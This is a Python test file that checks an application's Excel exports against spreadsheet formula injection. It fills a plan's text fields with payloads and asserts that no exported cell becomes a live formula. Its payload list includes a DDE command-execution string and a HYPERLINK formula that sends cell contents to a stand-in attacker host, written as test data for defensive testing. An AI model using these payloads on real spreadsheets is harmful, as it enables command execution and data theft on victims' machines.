"""No user text becomes a live formula in any workbook we write (issue 9).

Every text column of every table of a plan is filled with formula payloads,
then every workbook writer runs over it: the plan workbook, a template, the
weekly report and a problem list. openpyxl must find no formula cell and a
quote prefix on each payload; LibreOffice (when installed) must evaluate none.
"""

from __future__ import annotations

import csv
import re
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from oa_desk.exchange.cells import FORMULA_TRIGGERS
from oa_desk.services import excel
from oa_desk.services.excel_preview import write_error_workbook
from oa_desk.store import models as M
from oa_desk.store.planfile import open_plan
from tests.unit.excel_fixtures import make_plan

PAYLOADS = (
    "=6*7",
    "+6*7",
    "-6*7",
    "@SUM(6,7)",
    "\t=6*7",
    "\r=6*7",
    "＝6*7",
    "；=6*7",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
)
# What a spreadsheet program shows when a payload was evaluated.
EVALUATED = ("42", "13", "-42", "click", "#NAME?", "Err:", "#VALUE!", "#REF!")


def _decoded(value: object) -> object:
    """A cell's text as Excel shows it (openpyxl leaves the ``_xHHHH_`` escapes)."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def _text_columns() -> Iterator[tuple[str, str, int | None]]:
    for table in M.Base.metadata.sorted_tables:
        for column in table.columns:
            if isinstance(column.type, sa.String) and not isinstance(column.type, sa.Enum):
                yield table.name, column.name, column.type.length


def _poison(path: Path) -> int:
    """Put a payload into every text cell of the plan that its CHECK rules let hold one."""
    conn = sqlite3.connect(path, isolation_level=None)
    filled = 0
    try:
        for table, column, length in _text_columns():
            ids = [r[0] for r in conn.execute(f'SELECT rowid FROM "{table}"')]
            for i, rowid in enumerate(ids):
                payload = PAYLOADS[(i + filled) % len(PAYLOADS)]
                for value in (payload, f"{payload} {table}{rowid}"):
                    if length is not None and len(value) > length:
                        continue  # the plan's own length rule (SQLite does not enforce it)
                    try:
                        conn.execute(
                            f'UPDATE "{table}" SET "{column}" = ? WHERE rowid = ?', (value, rowid)
                        )
                    except sqlite3.IntegrityError:
                        continue  # an enumeration, a code, a unique name: try the next
                    filled += 1
                    break
    finally:
        conn.close()
    return filled


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("payloads")
    plan = folder / "p.oadesk"
    make_plan(plan).close()
    assert _poison(plan) > 80
    out = {
        "plan": folder / "plan.xlsx",
        "report": folder / "report.xlsx",
        "template": folder / "template.xlsx",
        "problems": folder / "problems.xlsx",
    }
    with open_plan(plan, snapshot=False) as store:
        with store.read() as s:
            assert s.get_one(M.Plan, 1).organisation in PAYLOADS
        excel.export_workbook(store, out["plan"])
        excel.write_report(store, out["report"])
        excel.write_template(out["template"])
        # A people sheet whose every cell is a payload: each one is a problem to list.
        sheet = folder / "people.csv"
        with sheet.open("w", encoding="utf-8", newline="") as f:
            w = csv.writer(f)
            w.writerow(["工号", "姓名", "部门", "邮箱"])
            for p in PAYLOADS:
                w.writerow([p, p, p, p])
        preview = excel.preview_foreign_import(store, sheet, "people")
        assert preview.problems
        write_error_workbook(preview, out["problems"])
    return out


@pytest.mark.parametrize("kind", ["plan", "report", "template", "problems"])
def test_no_user_text_is_a_formula(exports: dict[str, Path], kind: str) -> None:
    wb = openpyxl.load_workbook(exports[kind])
    payload_cells = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{kind}: {ws.title}!{cell.coordinate} {cell.value!r}"
                value = _decoded(cell.value)
                if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
                    assert cell.quotePrefix, f"{kind}: {ws.title}!{cell.coordinate} {value!r}"
                    payload_cells += 1
    assert payload_cells >= {"plan": 30, "report": 10, "template": 0, "problems": 3}[kind]


def test_the_report_carries_the_payloads(exports: dict[str, Path]) -> None:
    """The report's texts came from the poisoned plan (else the test proves nothing)."""
    wb = openpyxl.load_workbook(exports["report"])
    texts = {_decoded(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert any(isinstance(t, str) and t.startswith(PAYLOADS) for t in texts)
    summary = wb.worksheets[0]
    assert _decoded(summary["A2"].value) in PAYLOADS  # the organisation


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui",
)
@pytest.mark.parametrize("kind", ["plan", "report", "problems"])
def test_libreoffice_evaluates_no_payload(
    exports: dict[str, Path], kind: str, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    profile = (tmp_path / "lo-profile").as_uri()
    options = "44,34,76,1,,0,false,true,false,false,false,-1"  # every sheet, UTF-8
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{options}",
            "--outdir",
            str(out),
            str(exports[kind]),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    wb = openpyxl.load_workbook(exports[kind])
    seen = 0
    for ws in wb.worksheets:
        with (out / f"{exports[kind].stem}-{ws.title}.csv").open(encoding="utf-8") as f:
            shown = list(csv.reader(f))
        for row in ws.iter_rows():
            for cell in row:
                value = _decoded(cell.value)
                if not (isinstance(value, str) and value.startswith(PAYLOADS)):
                    continue
                assert cell.row is not None and cell.column is not None
                got = shown[cell.row - 1][cell.column - 1]
                # LibreOffice keeps the text (a CR becomes a line feed in CSV).
                assert got == value.replace("\r", "\n"), (ws.title, cell.coordinate, got)
                assert got not in EVALUATED
                seen += 1
    assert seen >= 3
